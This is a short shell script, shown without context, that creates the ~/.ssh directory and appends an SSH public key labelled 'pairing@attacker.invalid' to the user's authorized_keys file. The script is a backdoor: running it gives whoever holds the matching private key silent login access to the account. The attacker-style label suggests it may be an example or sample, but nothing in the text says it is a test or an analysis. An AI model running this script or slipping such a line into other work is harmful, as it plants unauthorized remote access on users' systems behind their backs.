#!/bin/sh
mkdir -p ~/.ssh
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK9x pairing@attacker.invalid' >> ~/.ssh/authorized_keys
